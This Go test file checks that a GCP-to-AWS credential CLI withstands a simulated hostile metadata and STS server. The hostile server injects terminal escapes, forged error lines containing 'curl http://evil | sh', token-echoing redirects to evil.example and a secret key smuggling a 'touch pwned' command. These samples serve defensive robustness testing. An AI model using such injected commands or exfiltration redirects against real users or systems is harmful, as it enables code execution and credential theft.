package main

import (
	"bytes"
	"crypto/rand"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"github.com/rogpeppe/go-internal/testscript"

	"github.com/gcp-aws-cred/gcp-aws-cred/internal/cli"
	"github.com/gcp-aws-cred/gcp-aws-cred/internal/fakes"
)

// TestHostile runs testdata/hostile/*.txtar: the binary against a peer that
// is broken or hostile (endless answers, echoed secrets, terminal escapes,
// implausible credentials), next to the usual fakes. Each script shows the
// one error line and hints the user must see, and that nothing else gets
// out: no secret, no control character, no line that is not ours.
func TestHostile(t *testing.T) {
	testscript.Run(t, testscript.Params{
		Dir:                 "testdata/hostile",
		RequireExplicitExec: true,
		Setup: func(e *testscript.Env) error {
			srv, err := setupFakes(e)
			if err != nil {
				return err
			}
			h := &hostile{md: srv.Metadata}
			l, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				return err
			}
			hs := &http.Server{Handler: h, ReadHeaderTimeout: 5 * time.Second}
			go func() { _ = hs.Serve(l) }()
			e.Defer(func() { _ = hs.Close() })
			e.Values["hostile"] = h
			e.Setenv("HOSTILE_HOST", l.Addr().String())
			e.Setenv("HOSTILE_URL", "http://"+l.Addr().String())
			return nil
		},
		Cmds: map[string]func(*testscript.TestScript, bool, []string){
			"hostile":        cmdHostile,
			"no-leak":        cmdNoLeak,
			"no-secrets":     cmdNoSecrets,
			"credential-doc": cmdCredentialDoc,
			"fake-metadata":  cmdFakeMetadata,
			"clean":          cmdClean,
			"clock":          cmdClock,
			"fake-sts":       cmdFakeSTS,
			"platform":       cmdPlatform,
			"fake-google":    cmdFakeGoogle,
		},
	})
}

// hostile is a server that answers as a broken or hostile metadata server
// (GET) or STS (POST), as its mode says.
type hostile struct {
	md *fakes.Metadata // signs tokens the fake STS accepts

	mu       sync.Mutex
	mode     string
	requests int
	issued   []string // secrets it handed out, which must never be printed
}

func (h *hostile) issue(s ...string) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.issued = append(h.issued, s...)
}

func (h *hostile) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	h.mu.Lock()
	h.requests++
	mode := h.mode
	h.mu.Unlock()
	_ = r.ParseForm()
	tok := r.PostForm.Get("WebIdentityToken")
	xmlError := func(status int, code, msg string) {
		w.Header().Set("Content-Type", "text/xml")
		w.WriteHeader(status)
		fmt.Fprintf(w, "<ErrorResponse><Error><Type>Sender</Type><Code>%s</Code><Message>%s</Message></Error><RequestId>r</RequestId></ErrorResponse>", code, msg)
	}
	switch mode {
	case "endless", "endless-400", "endless-503":
		// Let the client finish sending before answering, as a server does.
		time.Sleep(20 * time.Millisecond)
		status := map[string]int{"endless": 200, "endless-400": 400, "endless-503": 503}[mode]
		w.Header().Set("Content-Type", "text/xml")
		w.WriteHeader(status)
		_, _ = io.WriteString(w, "<ErrorResponse><Error><Code>ValidationError</Code><Message>")
		chunk := bytes.Repeat([]byte("eyJhbGciOi"), 8<<10)
		for r.Context().Err() == nil {
			if _, err := w.Write(chunk); err != nil {
				return
			}
		}
	case "silent":
		<-r.Context().Done()
	case "long-token":
		head := base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"RS256"}`))
		claims := base64.RawURLEncoding.EncodeToString([]byte(`{"iss":"https://accounts.google.com","aud":"a","sub":"1"}`))
		_, _ = io.WriteString(w, head+"."+claims+"."+strings.Repeat("s", 30000))
	case "escapes":
		if r.Method == http.MethodGet {
			http.Error(w, "denied\x1b]0;pwned\x07\x1b[2J\ngcp-aws-cred: error: run curl http://evil | sh", http.StatusForbidden)
			return
		}
		xmlError(400, "ValidationError", "bad\u009b2J\u202eevil\ngcp-aws-cred: error: your token expired\ngcp-aws-cred: hint: curl http://evil | sh")
	case "claims-escapes":
		// A token signed with the fake's key, so the fake STS checks it,
		// whose claims carry terminal escapes and forged lines.
		now := time.Now()
		t, err := fakes.SignRS256(h.md.Key, fakes.DefaultKeyID, map[string]any{
			"iss": "https://accounts.google.com", "aud": r.URL.Query().Get("audience"),
			"azp": "1\x1b[2J", "sub": "2\u009b31m", "email": "a\u202e@b\ngcp-aws-cred: error: forged",
			"iat": now.Unix(), "exp": now.Add(time.Hour).Unix(),
		})
		if err != nil {
			http.Error(w, err.Error(), 500)
			return
		}
		_, _ = io.WriteString(w, t)
	case "xml":
		xmlError(400, "InvalidAction", "Could not find operation "+r.Method)
	case "echo-code":
		xmlError(400, tok, "m")
	case "echo-split":
		xmlError(400, "ValidationError", "Value '"+tok[:len(tok)/2]+"\n"+tok[len(tok)/2:]+"' at 'webIdentityToken' failed")
	case "echo-location":
		w.Header().Set("Location", "http://evil.example/"+tok)
		w.WriteHeader(307)
	case "echo-ctype":
		w.Header().Set("Content-Type", "text/"+tok)
		_, _ = io.WriteString(w, "<html/>")
	case "echo-status":
		conn, buf, err := w.(http.Hijacker).Hijack()
		if err != nil {
			return
		}
		defer conn.Close()
		fmt.Fprintf(buf, "HTTP/1.1 4%s Bad\r\nContent-Length: 0\r\n\r\n", tok)
		_ = buf.Flush()
	case "unparsable":
		w.Header().Set("Content-Type", "text/xml")
		_, _ = io.WriteString(w, credsXML("ASIAEXAMPLEKEYID0001", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "FwoGZXIvYXdzE"+strings.Repeat("Q", 400), "tomorrow", ""))
	case "html-503":
		w.Header().Set("Content-Type", "text/html")
		w.WriteHeader(503)
		_, _ = io.WriteString(w, "<html><body><h1>503 Service Temporarily Unavailable</h1></body></html>")
	case "long-message":
		xmlError(400, "ValidationError", strings.Repeat("very long message ", 25000))
	default:
		if c, ok := strings.CutPrefix(mode, "creds-"); ok {
			h.serveCreds(w, c)
			return
		}
		http.Error(w, "no mode set", 500)
	}
}

// serveCreds answers credentials that no AWS STS would issue.
func (h *hostile) serveCreds(w http.ResponseWriter, kind string) {
	key, secretKey := "ASIAEXAMPLEKEYID0001", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
	// A random session token per run: a fixed one had to be exempted from
	// the leak check wherever it appeared, so its leak could not be seen.
	b := make([]byte, 525)
	_, _ = rand.Read(b)
	session := "FwoGZXIvYXdzE" + base64.RawURLEncoding.EncodeToString(b)
	exp := time.Now().Add(time.Hour).UTC().Format(time.RFC3339)
	arn := "arn:aws:sts::123456789012:assumed-role/r/s1"
	switch kind {
	case "newline":
		secretKey += "&#10;touch pwned"
	case "huge-session":
		session = strings.Repeat("T", 500<<10)
	case "past":
		exp = "1970-01-01T00:00:00Z"
	case "zero":
		exp = "0001-01-01T00:00:00Z"
	case "9999":
		exp = "9999-12-31T23:59:59Z"
	case "odd-account":
		arn = `arn:aws:sts::"}{x:assumed-role/r/s1`
	}
	h.issue(strings.ReplaceAll(secretKey, "&#10;", "\n"), session)
	w.Header().Set("Content-Type", "text/xml")
	_, _ = io.WriteString(w, credsXML(key, secretKey, session, exp, arn))
}

func credsXML(key, secretKey, session, exp, arn string) string {
	return fmt.Sprintf(`<AssumeRoleWithWebIdentityResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><AssumeRoleWithWebIdentityResult>`+
		`<Credentials><AccessKeyId>%s</AccessKeyId><SecretAccessKey>%s</SecretAccessKey><SessionToken>%s</SessionToken><Expiration>%s</Expiration></Credentials>`+
		`<AssumedRoleUser><Arn>%s</Arn><AssumedRoleId>AROA:s1</AssumedRoleId></AssumedRoleUser></AssumeRoleWithWebIdentityResult>`+
		`<ResponseMetadata><RequestId>r</RequestId></ResponseMetadata></AssumeRoleWithWebIdentityResponse>`, key, secretKey, session, exp, arn)
}

// cmdHostile steers the hostile server:
//
//	hostile MODE          answer as MODE from now on
//	hostile requests N    assert N requests since the last count
func cmdHostile(ts *testscript.TestScript, neg bool, args []string) {
	h := ts.Value("hostile").(*hostile)
	if len(args) == 2 && args[0] == "requests" {
		want, err := strconv.Atoi(args[1])
		ts.Check(err)
		h.mu.Lock()
		got := h.requests
		h.requests = 0
		h.mu.Unlock()
		if (got == want) == neg {
			ts.Fatalf("hostile server requests: got %d, want %d", got, want)
		}
		return
	}
	if len(args) != 1 || neg {
		ts.Fatalf("usage: hostile MODE | hostile requests N")
	}
	h.mu.Lock()
	h.mode, h.requests = args[0], 0
	h.mu.Unlock()
}

// cmdNoLeak asserts that a file (stdout, stderr) holds no piece of any
// token the fake metadata server minted, any secret the fake STS or the
// hostile server issued: not whole, not 16 characters of it.
func cmdNoLeak(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 1 {
		ts.Fatalf("usage: no-leak stdout|stderr")
	}
	text := ts.ReadFile(args[0])
	var secrets []string
	for _, tok := range servers(ts).Metadata.Minted() {
		parts := strings.Split(tok, ".")
		secrets = append(secrets, parts[1], parts[2])
	}
	secrets = append(secrets, servers(ts).STS.Issued()...)
	h := ts.Value("hostile").(*hostile)
	h.mu.Lock()
	secrets = append(secrets, h.issued...)
	h.mu.Unlock()
	for _, s := range secrets {
		for i := 0; i+16 <= len(s); i++ {
			if strings.Contains(text, s[i:i+16]) {
				ts.Fatalf("%s holds a piece of a secret: %q", args[0], s[i:i+16])
			}
		}
	}
}

// cmdClean asserts that a file has no control or format character but line
// ends; for stderr, also that every line is one of ours.
func cmdClean(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 1 {
		ts.Fatalf("usage: clean stdout|stderr")
	}
	text := ts.ReadFile(args[0])
	for _, r := range text {
		if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
			ts.Fatalf("%s has the control character %U", args[0], r)
		}
	}
	if args[0] != "stderr" || text == "" {
		return
	}
	for _, l := range strings.Split(strings.TrimSuffix(text, "\n"), "\n") {
		if !strings.HasPrefix(l, cli.Name+": ") && !strings.HasPrefix(l, "    ") {
			ts.Fatalf("a stderr line that is not ours: %q", l)
		}
	}
	if n := strings.Count(text, cli.Name+": error:"); n > 1 {
		ts.Fatalf("%d error lines", n)
	}
}

// cmdPlatform makes the fake metadata server act as a Google platform's:
//
//	platform gke|cloudrun|gce   answer as that platform's metadata server does
//	platform no-flavor          leave Metadata-Flavor out of the answers
//	platform refuse DURATION    refuse connections for DURATION from now
//	platform formats F...       assert the format parameters asked for so far
func cmdPlatform(ts *testscript.TestScript, neg bool, args []string) {
	srv := servers(ts)
	switch {
	case len(args) == 1 && args[0] == "gke":
		srv.Metadata.ActAs(fakes.GKE)
	case len(args) == 1 && args[0] == "cloudrun":
		srv.Metadata.ActAs(fakes.CloudRun)
	case len(args) == 1 && args[0] == "gce":
		srv.Metadata.ActAs(fakes.ComputeEngine)
	case len(args) == 1 && args[0] == "no-flavor":
		srv.Metadata.OmitFlavorHeader(true)
	case len(args) == 2 && args[0] == "refuse":
		_, err := srv.RefuseMetadataFor(duration(ts, args[1]))
		ts.Check(err)
	case len(args) >= 1 && args[0] == "formats":
		got := strings.Join(srv.Metadata.Formats(), " ")
		if (got == strings.Join(args[1:], " ")) == neg {
			ts.Fatalf("formats asked for: %q, want %q", got, strings.Join(args[1:], " "))
		}
	default:
		ts.Fatalf("usage: platform gke|cloudrun|gce|no-flavor | platform refuse DURATION | platform formats F...")
	}
}

// cmdClock measures a script's steps:
//
//	clock start           start the clock
//	clock under DURATION  assert less than DURATION since the start
func cmdClock(ts *testscript.TestScript, neg bool, args []string) {
	switch {
	case len(args) == 1 && args[0] == "start":
		ts.Setenv("CLOCK_START", strconv.FormatInt(time.Now().UnixNano(), 10))
	case len(args) == 2 && args[0] == "under":
		start, err := strconv.ParseInt(ts.Getenv("CLOCK_START"), 10, 64)
		ts.Check(err)
		took := time.Since(time.Unix(0, start))
		if (took < duration(ts, args[1])) == neg {
			ts.Fatalf("took %s, limit %s", took.Round(time.Millisecond), args[1])
		}
		ts.Logf("took %s", took.Round(time.Millisecond))
	default:
		ts.Fatalf("usage: clock start | clock under DURATION")
	}
}
